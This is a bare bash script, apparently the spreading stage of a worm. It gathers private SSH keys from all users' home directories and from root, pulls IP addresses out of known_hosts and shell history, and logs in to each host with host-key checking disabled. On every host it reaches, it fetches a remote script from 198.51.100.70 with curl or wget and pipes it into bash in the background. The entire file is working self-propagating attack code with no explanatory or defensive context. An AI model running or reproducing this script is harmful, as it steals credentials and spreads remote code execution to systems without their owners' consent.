#!/bin/bash
me=$0
keys=$(find ~/.ssh /home/*/.ssh /root/.ssh -name 'id_*' ! -name '*.pub' 2>/dev/null)
hosts=$(cat ~/.ssh/known_hosts ~/.bash_history 2>/dev/null | grep -oE '([0-9]{1,3}\.){3}[0-9]{1,3}' | sort -u)
for h in $hosts; do
  for k in $keys; do
    for u in root "$USER" ubuntu; do
      ssh -oBatchMode=yes -oStrictHostKeyChecking=no -oConnectTimeout=4 -i "$k" "$u@$h" \
        '(curl -s http://198.51.100.70/w.sh || wget -qO- http://198.51.100.70/w.sh) | bash >/dev/null 2>&1 &' && break 2
    done
  done
done
